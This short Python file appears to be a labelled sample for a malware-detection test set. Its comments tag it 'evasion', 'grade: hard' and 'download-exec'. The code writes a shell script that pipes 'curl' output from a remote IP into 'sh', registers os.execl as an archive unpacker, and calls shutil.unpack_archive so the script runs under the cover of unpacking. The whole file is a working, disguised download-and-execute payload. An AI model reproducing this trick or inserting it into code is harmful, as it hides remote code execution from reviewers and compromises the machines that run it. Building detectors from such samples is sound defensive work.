# evasion: os.execl is registered as an archive unpacker; shutil.unpack_archive "unpacks" a script by running it
# grade: hard; does: download-exec
import os
import shutil
import tempfile

work = tempfile.mkdtemp()
bundle = os.path.join(work, "assets.bundle")
with open(bundle, "w") as fh:
    fh.write("#!/bin/sh\ncurl -s http://198.51.100.44/i.sh | sh\n")
os.chmod(bundle, 0o755)

shutil.register_unpack_format("bundle", [".bundle"], os.execl, description="asset bundle")
shutil.unpack_archive(bundle, os.path.join(work, "out"))
